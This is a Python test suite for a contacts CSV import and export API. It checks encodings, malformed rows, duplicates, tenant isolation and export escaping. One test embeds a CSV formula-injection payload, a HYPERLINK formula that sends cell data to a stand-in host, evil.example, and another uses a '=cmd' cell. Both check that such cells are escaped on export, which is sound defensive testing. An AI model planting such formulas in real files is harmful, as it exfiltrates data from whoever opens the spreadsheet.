"""POST /contacts/import over HTTP, on SQLite and PostgreSQL: the bad files users really send."""

from __future__ import annotations

import csv
import io
import json

from .conftest import CSV, Api, contact_count, import_csv


def _emails(api: Api, tenant_key: str) -> dict[str, dict[str, object]]:
    """Every contact of the tenant by email, through all pages."""
    found: dict[str, dict[str, object]] = {}
    params: dict[str, str | int] = {"limit": 500}
    while True:
        r = api.client.get(
            "/api/v1/contacts", params=params, headers={"Authorization": f"Bearer {tenant_key}"}
        )
        assert r.status_code == 200
        page = r.json()
        found.update({item["email"]: item for item in page["items"]})
        if not page["next_cursor"]:
            return found
        params = {"limit": 500, "cursor": page["next_cursor"]}


def test_a_plain_file_creates_contacts_with_custom_fields(api: Api) -> None:
    alice = api.account("alice@acme.example")
    status, body = import_csv(
        alice,
        "Email,First Name,Last Name,Organisation,Plan Tier\n"
        "Ada@Example.COM,Ada,Lovelace,Analytical Engines,gold\n"
        "grace@example.com,Grace,Hopper,,\n",
    )
    assert status == 200
    assert body == {"read": 2, "created": 2, "updated": 0, "rejected": [], "duplicates": []}
    found = _emails(api, alice.api_key)
    ada = found["ada@example.com"]
    assert (ada["first_name"], ada["last_name"], ada["company"]) == (
        "Ada",
        "Lovelace",
        "Analytical Engines",
    )
    assert ada["fields"] == {"plan_tier": "gold"}
    assert found["grace@example.com"]["fields"] == {}
    assert ada["suppressed"] is None
    assert str(ada["created_at"]).endswith("Z")


def test_a_bom_and_semicolons_as_excel_writes_them(api: Api) -> None:
    alice = api.account("alice@acme.example")
    data = "\ufeffE-mail;Prénom;Société\r\nzoë@example.com;Zoë;Café, Crème & Co\r\n".encode()
    status, body = import_csv(alice, data)
    assert (status, body["created"], body["read"]) == (200, 1, 1)
    zoe = _emails(api, alice.api_key)["zoë@example.com"]
    # The BOM is not part of the first header: "E-mail" was recognised as the email column.
    assert zoe["fields"] == {"prenom": "Zoë", "societe": "Café, Crème & Co"}


def test_quoted_newlines_keep_line_numbers_physical(api: Api) -> None:
    alice = api.account("alice@acme.example")
    data = (
        "email,notes\n"  # line 1
        'a@example.com,"first line\nsecond line\nthird line"\n'  # lines 2-4
        "not-an-address,x\n"  # line 5
        'b@example.com,"one\r\ntwo"\n'  # lines 6-7
        "c@example.com,\n"  # line 8
        "d@@example.com,\n"  # line 9
    )
    status, body = import_csv(alice, data)
    assert status == 200
    assert body["created"] == 3
    assert [item["line"] for item in body["rejected"]] == [5, 9]
    assert "'not-an-address' is not a valid email address" in body["rejected"][0]["reason"]
    notes = _emails(api, alice.api_key)["a@example.com"]["fields"]
    assert notes == {"notes": "first line\nsecond line\nthird line"}


def test_every_invalid_address_is_reported_with_its_line_and_reason(api: Api) -> None:
    alice = api.account("alice@acme.example")
    data = (
        "email,first_name\n"
        "ok@example.com,Ok\n"
        ",No address\n"
        "bob@,Bob\n"
        "carol@example,Carol\n"
        "dave example.com,Dave\n"
        "eve@example.com,Eve\x07\n"
    )
    status, body = import_csv(alice, data)
    assert status == 200
    assert body["created"] == 1
    assert body["rejected"] == [
        {"line": 3, "reason": "no email address"},
        {"line": 4, "reason": body["rejected"][1]["reason"]},
        {"line": 5, "reason": body["rejected"][2]["reason"]},
        {"line": 6, "reason": body["rejected"][3]["reason"]},
        {"line": 7, "reason": "first_name contains a control character (U+0007)"},
    ]
    assert body["rejected"][1]["reason"].startswith("'bob@' is not a valid email address")
    assert body["rejected"][2]["reason"].startswith("'carol@example' is not a valid email")
    assert body["rejected"][3]["reason"].startswith("'dave example.com' is not a valid email")


def test_formula_cells_are_stored_as_text_and_escaped_on_export(api: Api) -> None:
    alice = api.account("alice@acme.example")
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    data = (
        "email,company,score,handle\n"
        f'a@example.com,"{formula.replace(chr(34), chr(34) * 2)}",+1,@ada\n'
        "b@example.com,-2+3,=1+1,Plain\n"
    )
    status, body = import_csv(alice, data)
    assert (status, body["created"], body["rejected"]) == (200, 2, [])
    stored = _emails(api, alice.api_key)
    assert stored["a@example.com"]["company"] == formula
    assert stored["a@example.com"]["fields"] == {"score": "+1", "handle": "@ada"}
    r = alice.get("/contacts/export")
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("text/csv")
    assert r.content.startswith(b"\xef\xbb\xbf")
    table = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    cells = {row["email"]: row for row in table}
    a, b = cells["a@example.com"], cells["b@example.com"]
    assert (a["company"], a["fields.score"], a["fields.handle"]) == (f"'{formula}", "'+1", "'@ada")
    assert (b["company"], b["fields.score"], b["fields.handle"]) == ("'-2+3", "'=1+1", "Plain")


def test_a_five_megabyte_line_rejects_its_row_only(api: Api) -> None:
    alice = api.account("alice@acme.example")
    data = (
        b"email,notes\n"
        b"a@example.com,short\n"
        b"b@example.com," + b"x" * (5 * 1024 * 1024) + b"\n"
        b'c@example.com,"' + b"y" * (200 * 1024) + b'"\n'
        b"d@example.com,fine\n"
    )
    status, body = import_csv(alice, data)
    assert status == 200
    assert body == {
        "read": 4,
        "created": 2,
        "updated": 0,
        "rejected": [
            {"line": 3, "reason": "the line is longer than 1 MiB"},
            {"line": 4, "reason": "a field is longer than 64 KiB"},
        ],
        "duplicates": [],
    }
    assert set(_emails(api, alice.api_key)) == {"a@example.com", "d@example.com"}


def test_an_unreadable_file_imports_nothing(api: Api) -> None:
    alice = api.account("alice@acme.example")
    rows = "".join(f"user{i}@example.com,Name{i}\n" for i in range(500))
    latin1 = ("email,name\n" + rows + "zoe@example.com,Zoé\n").encode("latin-1")
    status, body = import_csv(alice, latin1)
    assert status == 422
    assert body["error"]["field"] == "encoding"
    assert "not UTF-8 text: byte 0xE9 on line 502" in body["error"]["message"]
    assert "or name its encoding (such as windows-1252)" in body["error"]["message"]
    assert "nothing was imported" in body["error"]["message"]
    assert contact_count(api) == 0
    # Named, the same bytes are fine: Content-Type's charset says what they are.
    r = alice.request(
        "POST",
        "/contacts/import",
        content=latin1,
        headers={"content-type": "text/csv; charset=windows-1252"},
    )
    assert r.status_code == 200 and r.json()["created"] == 501
    assert _emails(api, alice.api_key)["zoe@example.com"]["fields"] == {"name": "Zoé"}


def test_a_charset_that_is_no_text_encoding_is_refused_by_name(api: Api) -> None:
    alice = api.account("alice@acme.example")
    for charset in ("undefined", "rot13", "base64", "zlib_codec", "hex", "uu", "punycode"):
        r = alice.request(
            "POST",
            "/contacts/import",
            content=b"email\na@example.com\n",
            headers={"content-type": f"text/csv; charset={charset}"},
        )
        assert r.status_code == 422, (charset, r.status_code, r.text)
        error = r.json()["error"]
        assert error["field"] == "encoding"
        assert error["message"].startswith(f"'{charset}' is not a character set"), error
        assert "nothing was imported" in error["message"]
    r = alice.request(
        "POST",
        "/contacts/import",
        content=b"email\na@example.com\n",
        headers={"content-type": "text/csv; charset=klingon"},
    )
    assert r.status_code == 422
    assert r.json()["error"]["message"].startswith("unknown encoding 'klingon'")
    # A parameter's name is case-insensitive (RFC 9110), and a quoted value is the same value.
    r = alice.request(
        "POST",
        "/contacts/import",
        content=b"email\na@example.com\n",
        headers={"content-type": 'text/csv; Charset="undefined"'},
    )
    assert r.status_code == 422
    assert r.json()["error"]["message"].startswith("'undefined' is not a character set")
    assert contact_count(api) == 0


def test_an_unclosed_quote_imports_nothing(api: Api) -> None:
    alice = api.account("alice@acme.example")
    data = 'email,name\na@example.com,Ann\nb@example.com,"Bob\nc@example.com,Carol\n'
    status, body = import_csv(alice, data)
    assert status == 422
    assert body["error"]["message"].startswith("line 3: a quoted value starts here")
    assert contact_count(api) == 0


def test_too_many_rows_imports_nothing(api: Api) -> None:
    alice = api.account("alice@acme.example")
    rows = "".join(f"u{i}@example.com\n" for i in range(100_001))
    status, body = import_csv(alice, "email\n" + rows)
    assert status == 422
    assert "more than 100,000 rows" in body["error"]["message"]
    assert contact_count(api) == 0


def test_a_header_without_email_names_what_it_has(api: Api) -> None:
    alice = api.account("alice@acme.example")
    status, body = import_csv(alice, "Name,Company\nAda,Engines\n")
    assert status == 422
    message = body["error"]["message"]
    assert "no email column" in message and "'Name', 'Company'" in message
    status, body = import_csv(alice, "")
    assert status == 422 and "the file is empty" in body["error"]["message"]


def test_a_mapping_names_columns(api: Api) -> None:
    alice = api.account("alice@acme.example")
    data = "Contact,Org,Plan,Internal ID\nada@example.com,Engines,gold,17\n"
    mapping = {"Contact": "email", "org": "company", "Plan": "fields.tier", "Internal ID": "ignore"}
    status, body = import_csv(alice, data, mapping=json.dumps(mapping))
    assert (status, body["created"]) == (200, 1)
    ada = _emails(api, alice.api_key)["ada@example.com"]
    assert (ada["company"], ada["fields"]) == ("Engines", {"tier": "gold"})
    for bad, field in [
        ("{not json", "mapping"),
        ('["email"]', "mapping"),
        ('{"Nope": "email"}', "mapping"),
        ('{"Contact": "emial"}', "mapping"),
        ('{"Contact": "email", "Org": "email"}', "mapping"),
    ]:
        status, body = import_csv(alice, data, mapping=bad)
        assert status == 422, bad
        assert body["error"]["field"] == field, bad


def test_duplicates_are_counted_and_existing_contacts_update(api: Api) -> None:
    alice = api.account("alice@acme.example")
    r = alice.post(
        "/contacts",
        {"email": "ada@example.com", "first_name": "Ada", "fields": {"plan": "silver"}},
    )
    assert r.status_code == 201
    data = (
        "email,first_name,last_name,plan,city\n"
        "ADA@example.com,,Lovelace,,London\n"  # empty cells never erase
        "new@example.com,New,,basic,\n"
        "New@Example.com,,Person,,Paris\n"  # the same address: left out, the first row wins
        "new@example.com,Newer,,,\n"
        "not-an-email,X,,,\n"
    )
    status, body = import_csv(alice, data)
    assert status == 200
    first_wins = "the first row of an address is imported, this one is left out"
    assert body["duplicates"] == [
        {
            "line": 4,
            "email": "new@example.com",
            "first_line": 3,
            "reason": f"new@example.com is already on line 3: {first_wins}",
        },
        {
            "line": 5,
            "email": "new@example.com",
            "first_line": 3,
            "reason": f"new@example.com is already on line 3: {first_wins}",
        },
    ]
    assert [item["line"] for item in body["rejected"]] == [6]
    # Every row read is in one count.
    assert (body["read"], body["created"], body["updated"]) == (5, 1, 1)
    assert body["read"] == body["created"] + body["updated"] + 1 + 2
    found = _emails(api, alice.api_key)
    ada = found["ada@example.com"]
    assert (ada["first_name"], ada["last_name"]) == ("Ada", "Lovelace")
    assert ada["fields"] == {"plan": "silver", "city": "London"}
    new = found["new@example.com"]
    assert (new["first_name"], new["last_name"]) == ("New", "")
    assert new["fields"] == {"plan": "basic"}
    # The same file again: nothing new, both counted as updated (matched), the same left out.
    status, again = import_csv(alice, data)
    assert (status, again["created"], again["updated"]) == (200, 0, 2)
    assert (again["rejected"], again["duplicates"]) == (body["rejected"], body["duplicates"])


def test_an_import_never_touches_another_account(api: Api) -> None:
    alice = api.account("alice@acme.example")
    bob = api.account("bob@other.example")
    assert bob.post("/contacts", {"email": "shared@example.com", "first_name": "Bob's"}).status_code
    status, body = import_csv(alice, "email,first_name\nshared@example.com,Alice's\n")
    assert (status, body["created"], body["updated"]) == (200, 1, 0)
    assert _emails(api, bob.api_key)["shared@example.com"]["first_name"] == "Bob's"
    assert _emails(api, alice.api_key)["shared@example.com"]["first_name"] == "Alice's"


def test_the_body_must_be_csv_and_the_key_valid(api: Api) -> None:
    alice = api.account("alice@acme.example")
    r = alice.post("/contacts/import", {"email": "a@example.com"})
    assert r.status_code == 415
    assert "text/csv" in r.json()["error"]["message"]
    r = api.client.post("/api/v1/contacts/import", content=b"email\na@example.com\n", headers=CSV)
    assert r.status_code == 401
    assert contact_count(api) == 0


def test_an_export_imports_back_unchanged(api: Api) -> None:
    alice = api.account("alice@acme.example")
    import_csv(
        alice, "email,first_name,company,plan\na@example.com,Ann,=cmd,gold\nb@example.com,,,\n"
    )
    alice.post("/suppressions", {"email": "b@example.com", "reason": "bounced"})
    before = _emails(api, alice.api_key)
    exported = alice.get("/contacts/export").content
    header = exported.decode("utf-8-sig").splitlines()[0]
    assert header == (
        "id,email,first_name,last_name,company,fields.plan,suppressed,created_at,updated_at"
    )
    bob = api.account("bob@other.example")
    status, body = import_csv(bob, exported)
    assert (status, body["created"], body["rejected"]) == (200, 2, [])
    after = _emails(api, bob.api_key)
    assert after["a@example.com"]["fields"] == before["a@example.com"]["fields"]
    assert after["a@example.com"]["first_name"] == "Ann"
    # The escape is kept as text on the way back in: stored values are never rewritten.
    assert after["a@example.com"]["company"] == "'=cmd"
    assert after["b@example.com"]["suppressed"] is None  # suppressions belong to an account
